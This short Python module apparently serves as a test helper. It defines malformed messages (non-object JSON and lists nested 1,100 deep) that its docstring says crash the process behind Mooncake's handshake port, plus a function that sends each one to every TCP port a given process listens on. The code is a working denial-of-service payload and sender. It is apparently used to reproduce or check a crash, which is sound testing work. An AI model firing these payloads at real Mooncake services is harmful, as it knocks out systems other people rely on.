"""Messages to Mooncake's handshake port that end the process behind it."""

from __future__ import annotations

import socket
import struct
from typing import Final

import psutil

BOMBS: Final = (b"5", b"[1]", b"[" * 1100)
"""Valid JSON that is no object, and lists nested deeper than Mooncake's parser goes."""
ELSEWHERE: Final = "127.0.0.2"
"""An address of this machine at which only ports that are open at all addresses answer."""


def tcp_listeners(pid: int) -> list[tuple[str, int]]:
    """Address and port of each TCP socket that a process listens on; IPv4 in IPv6 as IPv4."""
    return [
        (connection.laddr.ip.removeprefix("::ffff:"), connection.laddr.port)
        for connection in psutil.Process(pid).net_connections("tcp")
        if connection.status == psutil.CONN_LISTEN
    ]


def throw_bombs(pid: int, host: str) -> int:
    """Send every bomb to every TCP port of a process, at `host`. Returns how many arrived."""
    arrived = 0
    for _, port in tcp_listeners(pid):
        for bomb in BOMBS:
            try:
                with socket.create_connection((host, port), timeout=5) as peer:
                    peer.sendall(struct.pack("<Q", len(bomb)) + bomb)
                    arrived += 1
                    peer.recv(64)
            except OSError:
                continue
    return arrived
